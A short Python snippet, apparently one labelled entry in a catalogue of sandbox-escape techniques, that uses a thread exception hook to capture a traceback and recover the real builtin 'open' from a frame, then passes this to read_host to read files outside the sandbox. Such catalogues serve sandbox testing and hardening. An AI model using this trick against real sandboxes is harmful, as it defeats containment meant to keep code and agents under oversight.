# technique: the hook of a thread's error is handed the traceback
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    import threading
    found = []
    threading.excepthook = lambda given: found.append(given.exc_traceback)
    thread = threading.Thread(target=lambda: 1 / 0)
    thread.start()
    thread.join()
    return found[0].tb_frame.f_builtins["open"]

read_host(trick)
